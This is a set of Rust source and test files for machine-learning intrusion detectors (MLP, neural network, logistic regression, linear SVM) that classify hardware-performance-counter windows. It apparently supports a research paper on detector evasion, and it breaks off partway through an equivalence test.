/// `Send + Sync` so trained detectors (and the [`Hid`] wrapping them)
/// can be scored from the campaign engine's worker threads.
pub trait Detector: std::fmt::Debug + Send + Sync {
    /// Model display name (paper legend).
    fn name(&self) -> &'static str;

    /// (Re)trains from scratch on the given matrix and labels
    /// (0 = benign, 1 = attack).
    ///
    /// # Panics
    ///
    /// Implementations panic on empty or inconsistent inputs.
    fn fit(&mut self, x: &[Vec<f64>], y: &[u8]);

    /// (Re)trains from a flat row-major matrix — the allocation-free
    /// path the deployed [`Hid`] uses. The default unboxes into jagged
    /// rows and delegates to [`Detector::fit`]; the built-in model
    /// families override it with implementations that never leave flat
    /// storage.
    ///
    /// # Panics
    ///
    /// Implementations panic on empty or inconsistent inputs.
    fn fit_mat(&mut self, x: &Mat, y: &[u8]) {
        let rows: Vec<Vec<f64>> = x.iter_rows().map(<[f64]>::to_vec).collect();
        self.fit(&rows, y);
    }

    /// Classifies one feature row (0 = benign, 1 = attack).
    fn predict(&self, row: &[f64]) -> u8;

    /// Classifies every row of a flat matrix.
    ///
    /// The default is the per-row loop, correct for any custom
    /// detector; the built-in families override it with whole-batch
    /// (GEMM / buffer-reusing) implementations that are bit-identical
    /// to the per-row path.
    fn predict_batch(&self, x: &Mat) -> Vec<u8> {
        x.iter_rows().map(|row| self.predict(row)).collect()
    }

    /// Fraction of rows classified correctly (routed through
    /// [`Detector::predict_batch`]).
    fn accuracy(&self, x: &[Vec<f64>], y: &[u8]) -> f64 {
        assert_eq!(x.len(), y.len(), "features/labels mismatch");
        if x.is_empty() {
            return 0.0;
        }
        self.accuracy_mat(&Mat::from_rows(x), y)
    }

    /// [`Detector::accuracy`] over a flat matrix.
    fn accuracy_mat(&self, x: &Mat, y: &[u8]) -> f64 {
        assert_eq!(x.rows(), y.len(), "features/labels mismatch");
        if x.rows() == 0 {
            return 0.0;
        }
        let correct = self
            .predict_batch(x)
            .iter()
            .zip(y)
            .filter(|(p, l)| p == l)
            .count();
        correct as f64 / x.rows() as f64
    }
}

/// The classifier families evaluated in the paper (Figures 5 and 6
/// legends: MLP \[2\], NN \[4\], LR and SVM \[3\]).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum HidKind {
    /// 3-layer MLP (the Sklearn classifier of \[4\]).
    Mlp,
    /// 6-layer ReLU network (the TensorFlow classifier of \[5\], \[6\]).
    Nn,
    /// Logistic regression.
    Lr,
    /// Linear-kernel SVM.
    Svm,
}

impl HidKind {
    /// All four families, in paper-legend order.
    pub const ALL: [HidKind; 4] = [HidKind::Mlp, HidKind::Nn, HidKind::Lr, HidKind::Svm];

    /// Display name.
    pub fn name(self) -> &'static str {
        match self {
            HidKind::Mlp => "MLP",
            HidKind::Nn => "NN",
            HidKind::Lr => "LR",
            HidKind::Svm => "SVM",
        }
    }

    /// Instantiates an untrained detector of this family.
    pub fn build(self) -> Box<dyn Detector> {
        match self {
            HidKind::Mlp => Box::new(DenseNet::mlp()),
            HidKind::Nn => Box::new(DenseNet::nn6()),
            HidKind::Lr => Box::new(LogisticRegression::new()),
            HidKind::Svm => Box::new(LinearSvm::new()),
        }
    }
}

impl std::fmt::Display for HidKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// Learning mode of the deployed HID.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum HidMode {
    /// Static: trained once, never retrained (Figure 5).
    Offline,
    /// Retrained on the augmented dataset after each observed attack
    /// attempt (Figure 6).
    Online,
}

/// A deployed hardware-assisted intrusion detector: model + normalizer +
/// (for online mode) the growing training corpus.
#[derive(Debug)]
pub struct Hid {
    kind: HidKind,
    mode: HidMode,
    model: Box<dyn Detector>,
    normalizer: Normalizer,
    corpus: Dataset,
    initial_len: usize,
    observed_cap: usize,
}

impl Hid {
    /// Trains a fresh HID of `kind` on `training` data (raw counter rows;
    /// normalization is fit here).
    ///
    /// # Panics
    ///
    /// Panics when `training` is empty.
    pub fn train(kind: HidKind, mode: HidMode, training: Dataset) -> Hid {
        assert!(!training.is_empty(), "cannot train an HID on no data");
        let mut span = telemetry::span("hid.train");
        span.field("kind", kind.name())
            .field("mode", if mode == HidMode::Online { "online" } else { "offline" })
            .field("rows", training.len());
        let normalizer = Normalizer::fit(&training.x);
        let mut model = kind.build();
        let x = normalized_mat(&normalizer, &training);
        fit_timed(model.as_mut(), &x, &training.y);
        let initial_len = training.len();
        Hid {
            kind,
            mode,
            model,
            normalizer,
            corpus: training,
            initial_len,
            observed_cap: 2_400,
        }
    }

    /// Bounds how many *observed* (post-deployment) windows the online
    /// corpus retains; the initial training set is always kept. Online
    /// retraining over an unbounded history is neither realistic nor
    /// affordable for a real-time detector.
    pub fn set_observed_cap(&mut self, cap: usize) {
        self.observed_cap = cap;
    }

    /// The model family.
    pub fn kind(&self) -> HidKind {
        self.kind
    }

    /// The learning mode.
    pub fn mode(&self) -> HidMode {
        self.mode
    }

    /// Classifies one raw counter row.
    pub fn classify(&self, row: &[f64]) -> u8 {
        let mut r = row.to_vec();
        self.normalizer.apply(&mut r);
        self.model.predict(&r)
    }

    /// Classifies a batch of raw counter rows through the flat fast
    /// path: one contiguous normalization pass, then the model's
    /// whole-batch predictor. Bit-identical to calling
    /// [`Hid::classify`] per row.
    pub fn classify_batch(&self, rows: &[Vec<f64>]) -> Vec<u8> {
        if rows.is_empty() {
            return Vec::new();
        }
        let mut flat = cr_spectre_hpc::dataset::FlatMatrix::from_rows(rows);
        self.normalizer.apply_flat(&mut flat);
        let (data, n, dim) = flat.into_parts();
        self.model.predict_batch(&Mat::from_vec(data, n, dim))
    }

    /// Overall accuracy on a labelled raw dataset (Figure 4's metric).
    pub fn test_accuracy(&self, test: &Dataset) -> f64 {
        if test.is_empty() {
            return 0.0;
        }
        let correct = self
            .classify_batch(&test.x)
            .iter()
            .zip(&test.y)
            .filter(|(p, l)| p == l)
            .count();
        correct as f64 / test.len() as f64
    }

    /// Fraction of the given attack windows flagged as attack — the
    /// accuracy metric plotted per attempt in Figures 5 and 6.
    pub fn detection_rate(&self, attack_rows: &[Vec<f64>]) -> f64 {
        if attack_rows.is_empty() {
            return 0.0;
        }
        let hits =
            self.classify_batch(attack_rows).iter().filter(|&&p| p == 1).count();
        hits as f64 / attack_rows.len() as f64
    }

    /// Whether `rate` means the attack evaded (paper: ≤ 55 %).
    pub fn evaded(rate: f64) -> bool {
        rate <= EVADED_THRESHOLD
    }

    /// Whether `rate` means the attack was detected (paper: > 80 %).
    pub fn detected(rate: f64) -> bool {
        rate > DETECTED_THRESHOLD
    }

    /// Feeds newly observed, defender-labelled windows back to the HID
    /// and retrains. An [`HidMode::Online`] detector augments its corpus
    /// and refits (normalizer included); an offline detector ignores the
    /// data.
    pub fn observe(&mut self, rows: &[Vec<f64>], label: cr_spectre_hpc::dataset::Label) {
        self.ingest(rows, label);
        self.retrain();
    }

    /// Appends labelled windows to the corpus **without** retraining
    /// (online mode only); call [`Hid::retrain`] afterwards.
    pub fn ingest(&mut self, rows: &[Vec<f64>], label: cr_spectre_hpc::dataset::Label) {
        if self.mode == HidMode::Offline {
            return;
        }
        for row in rows {
            self.corpus.push_row(row.clone(), label);
        }
    }

    /// Appends windows labelled by the detector's **own current
    /// classification** — the semi-supervised self-training a deployed
    /// online HID performs on traffic it has no ground truth for. Call
    /// [`Hid::retrain`] afterwards.
    pub fn ingest_self_labeled(&mut self, rows: &[Vec<f64>]) {
        if self.mode == HidMode::Offline {
            return;
        }
        let labels = self.classify_batch(rows);
        for (row, label) in rows.iter().zip(labels) {
            let label = if label == 1 {
                cr_spectre_hpc::dataset::Label::Attack
            } else {
                cr_spectre_hpc::dataset::Label::Benign
            };
            self.corpus.push_row(row.clone(), label);
        }
    }

    /// Refits the normalizer and model on the current corpus (online mode
    /// only), first trimming observed windows beyond the retention cap
    /// (oldest observations age out; the initial training set is kept).
    pub fn retrain(&mut self) {
        if self.mode == HidMode::Offline {
            return;
        }
        let mut span = telemetry::span("hid.retrain");
        span.field("kind", self.kind.name()).field("corpus", self.corpus.len());
        let observed = self.corpus.len() - self.initial_len;
        if observed > self.observed_cap {
            let drop = observed - self.observed_cap;
            self.corpus.x.drain(self.initial_len..self.initial_len + drop);
            self.corpus.y.drain(self.initial_len..self.initial_len + drop);
        }
        self.normalizer = Normalizer::fit(&self.corpus.x);
        let x = normalized_mat(&self.normalizer, &self.corpus);
        fit_timed(self.model.as_mut(), &x, &self.corpus.y);
    }

    /// Current training-corpus size (grows only in online mode).
    pub fn corpus_len(&self) -> usize {
        self.corpus.len()
    }
}

/// Normalizes a corpus into the flat matrix the fast-path trainers
/// consume: one contiguous copy, normalized in place, handed to
/// [`Mat`] zero-copy — no per-row re-boxing anywhere.
fn normalized_mat(normalizer: &Normalizer, corpus: &Dataset) -> Mat {
    let mut flat = corpus.to_flat();
    normalizer.apply_flat(&mut flat);
    let (data, rows, cols) = flat.into_parts();
    Mat::from_vec(data, rows, cols)
}

/// Runs `model.fit_mat` under the training-throughput telemetry: a
/// `hid.train.rows_per_sec` counter (corpus rows per wall-clock second
/// of the full fit) inside whichever `hid.train` / `hid.retrain` span
/// is active. Observation only — the fit itself is identical with
/// telemetry on or off.
fn fit_timed(model: &mut dyn Detector, x: &Mat, y: &[u8]) {
    if !telemetry::enabled() {
        model.fit_mat(x, y);
        return;
    }
    let t0 = std::time::Instant::now();
    model.fit_mat(x, y);
    let wall = t0.elapsed().as_secs_f64();
    if wall > 0.0 {
        telemetry::counter("hid.train.rows_per_sec", (x.rows() as f64 / wall) as u64);
    }
}

/// Synthetic data generators shared by the model unit tests.
#[cfg(test)]
pub mod testdata {
    use rand::rngs::StdRng;
    use rand::{Rng, SeedableRng};

    /// Two Gaussian-ish blobs separated by `sep` in every dimension.
    pub fn blobs(n: usize, dim: usize, sep: f64, seed: u64) -> (Vec<Vec<f64>>, Vec<u8>) {
        let mut rng = StdRng::seed_from_u64(seed);
        let mut x = Vec::with_capacity(n);
        let mut y = Vec::with_capacity(n);
        for i in 0..n {
            let label = (i % 2) as u8;
            let center = if label == 1 { sep } else { -sep };
            x.push((0..dim).map(|_| center + rng.random_range(-1.0..1.0)).collect());
            y.push(label);
        }
        (x, y)
    }

    /// The XOR problem in 2D (not linearly separable).
    pub fn xor_data(n: usize, seed: u64) -> (Vec<Vec<f64>>, Vec<u8>) {
        let mut rng = StdRng::seed_from_u64(seed);
        let mut x = Vec::with_capacity(n);
        let mut y = Vec::with_capacity(n);
        for _ in 0..n {
            let a = rng.random_range(-1.0..1.0f64);
            let b = rng.random_range(-1.0..1.0f64);
            x.push(vec![a, b]);
            y.push(u8::from((a > 0.0) != (b > 0.0)));
        }
        (x, y)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cr_spectre_hpc::dataset::Label;

    fn blob_dataset(n: usize, sep: f64, seed: u64) -> Dataset {
        let (x, y) = testdata::blobs(n, 4, sep, seed);
        let mut d = Dataset::new();
        for (row, label) in x.into_iter().zip(y) {
            d.push_row(row, if label == 1 { Label::Attack } else { Label::Benign });
        }
        d
    }

    #[test]
    fn every_kind_trains_and_detects_separable_data() {
        let train = blob_dataset(200, 2.5, 1);
        let test = blob_dataset(100, 2.5, 2);
        for kind in HidKind::ALL {
            let hid = Hid::train(kind, HidMode::Offline, train.clone());
            let acc = hid.test_accuracy(&test);
            assert!(acc > 0.9, "{kind}: accuracy {acc}");
            assert_eq!(hid.kind(), kind);
        }
    }

    #[test]
    fn detection_rate_is_recall_on_attack_rows() {
        let train = blob_dataset(200, 3.0, 3);
        let hid = Hid::train(HidKind::Lr, HidMode::Offline, train);
        let (x, y) = testdata::blobs(100, 4, 3.0, 4);
        let attacks: Vec<Vec<f64>> =
            x.into_iter().zip(&y).filter(|(_, &l)| l == 1).map(|(r, _)| r).collect();
        let rate = hid.detection_rate(&attacks);
        assert!(rate > 0.9, "rate {rate}");
        assert!(Hid::detected(rate));
        assert!(!Hid::evaded(rate));
    }

    #[test]
    fn thresholds_match_the_paper() {
        assert!(Hid::evaded(0.55));
        assert!(!Hid::evaded(0.56));
        assert!(Hid::detected(0.81));
        assert!(!Hid::detected(0.80));
    }

    #[test]
    fn offline_hid_ignores_observations() {
        let train = blob_dataset(100, 2.5, 5);
        let mut hid = Hid::train(HidKind::Svm, HidMode::Offline, train);
        let before = hid.corpus_len();
        hid.observe(&[vec![9.0, 9.0, 9.0, 9.0]], Label::Attack);
        assert_eq!(hid.corpus_len(), before);
    }

    #[test]
    fn online_hid_retrains_on_observations() {
        // Train on blobs where the attack class sits at +2.5; then show
        // the online HID a "shifted" attack cluster at -6 (previously
        // classified benign) and verify retraining captures it. Needs a
        // nonlinear model — two attack clusters straddling benign.
        let train = blob_dataset(200, 2.5, 6);
        let mut hid = Hid::train(HidKind::Mlp, HidMode::Online, train);
        let shifted: Vec<Vec<f64>> = (0..60)
            .map(|i| vec![-6.0 + (i % 3) as f64 * 0.1; 4])
            .collect();
        let before = hid.detection_rate(&shifted);
        assert!(before < 0.5, "shifted cluster initially evades: {before}");
        hid.observe(&shifted, Label::Attack);
        let after = hid.detection_rate(&shifted);
        assert!(after > 0.9, "online retraining catches the variant: {after}");
    }

    #[test]
    fn empty_detection_rate_is_zero() {
        let hid = Hid::train(HidKind::Lr, HidMode::Offline, blob_dataset(50, 2.0, 7));
        assert_eq!(hid.detection_rate(&[]), 0.0);
        assert_eq!(hid.test_accuracy(&Dataset::new()), 0.0);
    }

    #[test]
    #[should_panic(expected = "no data")]
    fn training_on_empty_dataset_panics() {
        let _ = Hid::train(HidKind::Lr, HidMode::Offline, Dataset::new());
    }
}

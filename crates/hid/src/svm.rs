//! Linear support-vector machine (the paper's "SVM" detector, linear
//! kernel), trained with hinge-loss SGD (Pegasos-style).
//!
//! Runs on the flat math core: [`LinearSvm::fit_mat`] walks contiguous
//! [`Mat`] rows and [`LinearSvm::predict_batch`] scores a whole matrix
//! through one [`matvec_into`], both bit-identical to the seed
//! implementation ([`crate::reference::RefLinearSvm`]).

use cr_spectre_telemetry as telemetry;
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::SeedableRng;

use crate::detector::Detector;
use crate::linalg::{dot, matvec_into, Mat};

/// Linear SVM binary classifier.
#[derive(Debug, Clone)]
pub struct LinearSvm {
    weights: Vec<f64>,
    bias: f64,
    /// Learning rate.
    pub learning_rate: f64,
    /// Full passes over the training data.
    pub epochs: usize,
    /// Regularization strength (λ).
    pub lambda: f64,
    /// Shuffling seed.
    pub seed: u64,
}

impl LinearSvm {
    /// Creates an untrained model with the defaults used by the HID.
    pub fn new() -> LinearSvm {
        LinearSvm {
            weights: Vec::new(),
            bias: 0.0,
            learning_rate: 0.02,
            epochs: 60,
            lambda: 1e-4,
            seed: 23,
        }
    }

    /// Signed decision value (positive = attack).
    pub fn decision(&self, row: &[f64]) -> f64 {
        dot(&self.weights, row) + self.bias
    }

    /// The trained weight vector (the equivalence suite compares it
    /// bit for bit against the seed implementation).
    pub fn weights(&self) -> &[f64] {
        &self.weights
    }

    /// The trained bias term.
    pub fn bias(&self) -> f64 {
        self.bias
    }
}

impl Default for LinearSvm {
    fn default() -> LinearSvm {
        LinearSvm::new()
    }
}

impl Detector for LinearSvm {
    fn name(&self) -> &'static str {
        "SVM"
    }

    fn fit(&mut self, x: &[Vec<f64>], y: &[u8]) {
        self.fit_mat(&Mat::from_rows(x), y);
    }

    fn fit_mat(&mut self, x: &Mat, y: &[u8]) {
        assert_eq!(x.rows(), y.len(), "features/labels mismatch");
        assert!(x.rows() > 0, "cannot fit on no data");
        self.weights = vec![0.0; x.cols()];
        self.bias = 0.0;
        let mut order: Vec<usize> = (0..x.rows()).collect();
        let mut rng = StdRng::seed_from_u64(self.seed);
        let timing = telemetry::enabled();
        for _ in 0..self.epochs {
            let t0 = timing.then(std::time::Instant::now);
            order.shuffle(&mut rng);
            for &i in &order {
                let row = x.row(i);
                let t = if y[i] == 1 { 1.0 } else { -1.0 };
                let margin = t * self.decision(row);
                for (w, &xi) in self.weights.iter_mut().zip(row) {
                    let grad = if margin < 1.0 { -t * xi } else { 0.0 };
                    *w -= self.learning_rate * (grad + self.lambda * *w);
                }
                if margin < 1.0 {
                    self.bias += self.learning_rate * t;
                }
            }
            if let Some(t0) = t0 {
                telemetry::histogram(
                    "hid.train.epoch_us",
                    t0.elapsed().as_secs_f64() * 1_000_000.0,
                );
            }
        }
    }

    fn predict(&self, row: &[f64]) -> u8 {
        u8::from(self.decision(row) >= 0.0)
    }

    /// Whole-batch scoring: one matrix–vector product over the flat
    /// batch, bit-identical to the per-row path (f64 multiplication is
    /// commutative at the bit level).
    fn predict_batch(&self, x: &Mat) -> Vec<u8> {
        let mut z = vec![0.0; x.rows()];
        matvec_into(x, &self.weights, &mut z);
        z.into_iter().map(|v| u8::from(v + self.bias >= 0.0)).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detector::testdata::{blobs, xor_data};

    #[test]
    fn learns_linearly_separable_blobs() {
        let (x, y) = blobs(200, 4, 2.5, 7);
        let mut svm = LinearSvm::new();
        svm.fit(&x, &y);
        assert!(svm.accuracy(&x, &y) > 0.95, "got {}", svm.accuracy(&x, &y));
    }

    #[test]
    fn cannot_learn_xor() {
        let (x, y) = xor_data(200, 9);
        let mut svm = LinearSvm::new();
        svm.fit(&x, &y);
        assert!(svm.accuracy(&x, &y) < 0.8);
    }

    #[test]
    fn decision_sign_matches_prediction() {
        let (x, y) = blobs(80, 2, 3.0, 2);
        let mut svm = LinearSvm::new();
        svm.fit(&x, &y);
        for row in &x {
            assert_eq!(svm.predict(row), u8::from(svm.decision(row) >= 0.0));
        }
    }

    #[test]
    fn deterministic_refit() {
        let (x, y) = blobs(60, 2, 2.0, 4);
        let mut a = LinearSvm::new();
        a.fit(&x, &y);
        let mut b = LinearSvm::new();
        b.fit(&x, &y);
        assert_eq!(a.weights, b.weights);
    }

    #[test]
    fn batch_prediction_matches_per_row() {
        use crate::linalg::Mat;
        let (x, y) = blobs(150, 3, 1.1, 6);
        let mut svm = LinearSvm::new();
        svm.fit(&x, &y);
        let batch = svm.predict_batch(&Mat::from_rows(&x));
        let per_row: Vec<u8> = x.iter().map(|r| svm.predict(r)).collect();
        assert_eq!(batch, per_row);
    }
}

//! Linear support-vector machine (the paper's "SVM" detector, linear
//! kernel), trained with hinge-loss SGD (Pegasos-style).

use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::SeedableRng;

use crate::detector::Detector;
use crate::linalg::dot;

/// Linear SVM binary classifier.
#[derive(Debug, Clone)]
pub struct LinearSvm {
    weights: Vec<f64>,
    bias: f64,
    /// Learning rate.
    pub learning_rate: f64,
    /// Full passes over the training data.
    pub epochs: usize,
    /// Regularization strength (λ).
    pub lambda: f64,
    /// Shuffling seed.
    pub seed: u64,
}

impl LinearSvm {
    /// Creates an untrained model with the defaults used by the HID.
    pub fn new() -> LinearSvm {
        LinearSvm {
            weights: Vec::new(),
            bias: 0.0,
            learning_rate: 0.02,
            epochs: 60,
            lambda: 1e-4,
            seed: 23,
        }
    }

    /// Signed decision value (positive = attack).
    pub fn decision(&self, row: &[f64]) -> f64 {
        dot(&self.weights, row) + self.bias
    }
}

impl Default for LinearSvm {
    fn default() -> LinearSvm {
        LinearSvm::new()
    }
}

impl Detector for LinearSvm {
    fn name(&self) -> &'static str {
        "SVM"
    }

    fn fit(&mut self, x: &[Vec<f64>], y: &[u8]) {
        assert_eq!(x.len(), y.len(), "features/labels mismatch");
        assert!(!x.is_empty(), "cannot fit on no data");
        let dim = x[0].len();
        self.weights = vec![0.0; dim];
        self.bias = 0.0;
        let mut order: Vec<usize> = (0..x.len()).collect();
        let mut rng = StdRng::seed_from_u64(self.seed);
        for _ in 0..self.epochs {
            order.shuffle(&mut rng);
            for &i in &order {
                let t = if y[i] == 1 { 1.0 } else { -1.0 };
                let margin = t * self.decision(&x[i]);
                for (w, &xi) in self.weights.iter_mut().zip(&x[i]) {
                    let grad = if margin < 1.0 { -t * xi } else { 0.0 };
                    *w -= self.learning_rate * (grad + self.lambda * *w);
                }
                if margin < 1.0 {
                    self.bias += self.learning_rate * t;
                }
            }
        }
    }

    fn predict(&self, row: &[f64]) -> u8 {
        u8::from(self.decision(row) >= 0.0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detector::testdata::{blobs, xor_data};

    #[test]
    fn learns_linearly_separable_blobs() {
        let (x, y) = blobs(200, 4, 2.5, 7);
        let mut svm = LinearSvm::new();
        svm.fit(&x, &y);
        assert!(svm.accuracy(&x, &y) > 0.95, "got {}", svm.accuracy(&x, &y));
    }

    #[test]
    fn cannot_learn_xor() {
        let (x, y) = xor_data(200, 9);
        let mut svm = LinearSvm::new();
        svm.fit(&x, &y);
        assert!(svm.accuracy(&x, &y) < 0.8);
    }

    #[test]
    fn decision_sign_matches_prediction() {
        let (x, y) = blobs(80, 2, 3.0, 2);
        let mut svm = LinearSvm::new();
        svm.fit(&x, &y);
        for row in &x {
            assert_eq!(svm.predict(row), u8::from(svm.decision(row) >= 0.0));
        }
    }

    #[test]
    fn deterministic_refit() {
        let (x, y) = blobs(60, 2, 2.0, 4);
        let mut a = LinearSvm::new();
        a.fit(&x, &y);
        let mut b = LinearSvm::new();
        b.fit(&x, &y);
        assert_eq!(a.weights, b.weights);
    }
}

//! Property-based tests of the detector stack.

use proptest::prelude::*;

use cr_spectre_hid::detector::{Detector, Hid, HidKind, HidMode};
use cr_spectre_hid::linalg::{dot, gemm_nt, matvec_into, sigmoid, Mat};
use cr_spectre_hid::{DenseNet, LinearSvm, LogisticRegression};
use cr_spectre_hpc::dataset::{Dataset, Label};

fn separable(n: usize, sep: f64, seed: u64) -> Dataset {
    let mut d = Dataset::new();
    let mut state = seed | 1;
    for i in 0..n {
        let label = if i % 2 == 0 { Label::Benign } else { Label::Attack };
        let center = if i % 2 == 0 { -sep } else { sep };
        let row = (0..3)
            .map(|_| {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                center + (state % 1000) as f64 / 1000.0 - 0.5
            })
            .collect();
        d.push_row(row, label);
    }
    d
}

proptest! {
    // Model fitting is expensive (especially unoptimized); a handful of
    // seeds per property keeps the suite fast while still fuzzing.
    #![proptest_config(ProptestConfig::with_cases(16))]

    /// Sigmoid is bounded, monotone and symmetric for all inputs.
    #[test]
    fn sigmoid_properties(z in -1e6f64..1e6) {
        let s = sigmoid(z);
        prop_assert!((0.0..=1.0).contains(&s));
        prop_assert!(sigmoid(z + 1.0) >= s);
        prop_assert!((s + sigmoid(-z) - 1.0).abs() < 1e-9);
    }

    /// Dot product is symmetric and linear for all vectors.
    #[test]
    fn dot_is_symmetric_bilinear(
        a in proptest::collection::vec(-1e3f64..1e3, 4),
        b in proptest::collection::vec(-1e3f64..1e3, 4),
        k in -10.0f64..10.0,
    ) {
        prop_assert!((dot(&a, &b) - dot(&b, &a)).abs() < 1e-6);
        let ka: Vec<f64> = a.iter().map(|x| x * k).collect();
        prop_assert!((dot(&ka, &b) - k * dot(&a, &b)).abs() < 1e-3);
    }

    /// Every classifier family fits cleanly separable data to high
    /// accuracy regardless of the sampling seed.
    #[test]
    fn all_models_fit_separable_data(seed in any::<u64>()) {
        let data = separable(120, 4.0, seed);
        for kind in HidKind::ALL {
            let mut model = kind.build();
            model.fit(&data.x, &data.y);
            let acc = model.accuracy(&data.x, &data.y);
            prop_assert!(acc > 0.9, "{}: {}", kind.name(), acc);
        }
    }

    /// Predictions are deterministic: the same trained model classifies
    /// the same row identically forever.
    #[test]
    fn prediction_is_pure(seed in any::<u64>(), probe in proptest::collection::vec(-5.0f64..5.0, 3)) {
        let data = separable(60, 3.0, seed);
        let mut lr = LogisticRegression::new();
        lr.fit(&data.x, &data.y);
        prop_assert_eq!(lr.predict(&probe), lr.predict(&probe));
        let mut svm = LinearSvm::new();
        svm.fit(&data.x, &data.y);
        prop_assert_eq!(svm.predict(&probe), svm.predict(&probe));
        let mut net = DenseNet::mlp();
        net.fit(&data.x, &data.y);
        prop_assert_eq!(net.predict(&probe), net.predict(&probe));
    }

    /// detection_rate is always a probability, and equals 1 − rate of
    /// the complement set.
    #[test]
    fn detection_rate_is_a_probability(seed in any::<u64>()) {
        let data = separable(100, 3.0, seed);
        let hid = Hid::train(HidKind::Svm, HidMode::Offline, data.clone());
        let rate = hid.detection_rate(&data.x);
        prop_assert!((0.0..=1.0).contains(&rate));
        let flagged = data.x.iter().filter(|r| hid.classify(r) == 1).count();
        prop_assert!((rate - flagged as f64 / data.len() as f64).abs() < 1e-12);
    }

    /// The online corpus cap is respected after any number of observes.
    #[test]
    fn observed_cap_bounds_corpus(batches in proptest::collection::vec(10usize..80, 1..6)) {
        let initial = separable(60, 3.0, 5);
        let mut hid = Hid::train(HidKind::Lr, HidMode::Online, initial);
        hid.set_observed_cap(100);
        for (i, n) in batches.iter().enumerate() {
            let rows: Vec<Vec<f64>> = (0..*n).map(|k| vec![k as f64, i as f64, 0.0]).collect();
            hid.observe(&rows, Label::Attack);
            prop_assert!(hid.corpus_len() <= 60 + 100);
        }
    }

    /// Blocked GEMM equals the naive per-element `dot` **bit for bit**
    /// across random shapes, including degenerate ones (empty matrices,
    /// single rows, widths straddling the block size). This is the
    /// contract every fast prediction path rests on.
    #[test]
    fn gemm_nt_is_bitwise_naive_dot(
        m in 0usize..70,
        n in 0usize..70,
        k in 0usize..40,
        seed in any::<u64>(),
    ) {
        let (a, b) = random_pair(m, n, k, seed);
        let mut out = Mat::zeros(m, n);
        gemm_nt(&a, &b, &mut out);
        for i in 0..m {
            for j in 0..n {
                let expect = dot(a.row(i), b.row(j));
                prop_assert_eq!(
                    out.row(i)[j].to_bits(),
                    expect.to_bits(),
                    "element ({}, {})", i, j
                );
            }
        }
    }

    /// 1×N edge case: a single-row GEMM is exactly a matvec, and
    /// `matvec_into` is exactly a stack of naive dots.
    #[test]
    fn matvec_is_bitwise_naive_dot(
        rows in 0usize..70,
        k in 1usize..40,
        seed in any::<u64>(),
    ) {
        let (m, xmat) = random_pair(rows, 1, k, seed);
        let x = xmat.row(0);
        let mut out = vec![0.0; rows];
        matvec_into(&m, x, &mut out);
        let mut gemm_out = Mat::zeros(rows, 1);
        gemm_nt(&m, &xmat, &mut gemm_out);
        for (i, v) in out.iter().enumerate() {
            let expect = dot(m.row(i), x);
            prop_assert_eq!(v.to_bits(), expect.to_bits(), "row {}", i);
            prop_assert_eq!(gemm_out.row(i)[0].to_bits(), expect.to_bits(), "row {}", i);
        }
    }
}

/// Deterministic pseudo-random `m×k` / `n×k` pair sharing the inner
/// dimension, from a simple xorshift stream (proptest drives the seed).
fn random_pair(m: usize, n: usize, k: usize, seed: u64) -> (Mat, Mat) {
    let mut state = seed | 1;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state % 2000) as f64 / 100.0 - 10.0
    };
    let a = Mat::from_vec((0..m * k).map(|_| next()).collect(), m, k);
    let b = Mat::from_vec((0..n * k).map(|_| next()).collect(), n, k);
    (a, b)
}

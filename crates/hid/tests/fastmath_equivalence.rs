//! Fast-path ↔ seed equivalence: the flat math core must be
//! **bit-identical** to the reference (seed) implementations it
//! replaced, for every detector family, at the paper's dataset scales.
//!
//! * fig5/fig6 scale: 800 windows × 4 features (the paper's default
//!   working set);
//! * table1/fig4 scale: 240 windows × 16 features (the full counter
//!   budget).
//!
//! "Bit-identical" means trained weights compared via `f64::to_bits`,
//! per-row predictions compared exactly, and accuracies compared with
//! `==` — no tolerances anywhere. A separate case re-runs the fits with
//! telemetry enabled, locking in that instrumentation is observation
//! only.

use cr_spectre_hid::detector::{Detector, Hid, HidKind, HidMode};
use cr_spectre_hid::linalg::Mat;
use cr_spectre_hid::reference::{RefDenseNet, RefKnn, RefLinearSvm, RefLogisticRegression};
use cr_spectre_hid::{DenseNet, Knn, LinearSvm, LogisticRegression};
use cr_spectre_hpc::dataset::{Dataset, Label};
use cr_spectre_hpc::features::Normalizer;
use cr_spectre_telemetry as telemetry;

/// Deterministic two-cluster dataset with per-dimension jitter, roughly
/// the shape of normalized counter windows.
fn clusters(n: usize, dim: usize, sep: f64, seed: u64) -> (Vec<Vec<f64>>, Vec<u8>) {
    let mut state = seed | 1;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state % 2000) as f64 / 1000.0 - 1.0
    };
    let mut x = Vec::with_capacity(n);
    let mut y = Vec::with_capacity(n);
    for i in 0..n {
        let label = (i % 2) as u8;
        let center = if label == 1 { sep } else { -sep };
        x.push((0..dim).map(|_| center + next()).collect());
        y.push(label);
    }
    (x, y)
}

/// fig5/fig6 scale: 800 × 4.
fn fig5_shape() -> (Vec<Vec<f64>>, Vec<u8>) {
    clusters(800, 4, 1.5, 0xf165)
}

/// table1/fig4 scale: 240 × 16.
fn table1_shape() -> (Vec<Vec<f64>>, Vec<u8>) {
    clusters(240, 16, 1.2, 0x7ab1)
}

fn assert_bits_eq(a: &[f64], b: &[f64], what: &str) {
    assert_eq!(a.len(), b.len(), "{what}: length");
    for (i, (x, y)) in a.iter().zip(b).enumerate() {
        assert_eq!(x.to_bits(), y.to_bits(), "{what}[{i}]: {x} vs {y}");
    }
}

fn check_logreg(x: &[Vec<f64>], y: &[u8], what: &str) {
    let mut fast = LogisticRegression::new();
    fast.fit(x, y);
    let mut seed = RefLogisticRegression::new();
    seed.fit(x, y);
    assert_bits_eq(fast.weights(), seed.weights(), &format!("{what}: LR weights"));
    assert_eq!(fast.bias().to_bits(), seed.bias().to_bits(), "{what}: LR bias");
    let batch = fast.predict_batch(&Mat::from_rows(x));
    for (i, row) in x.iter().enumerate() {
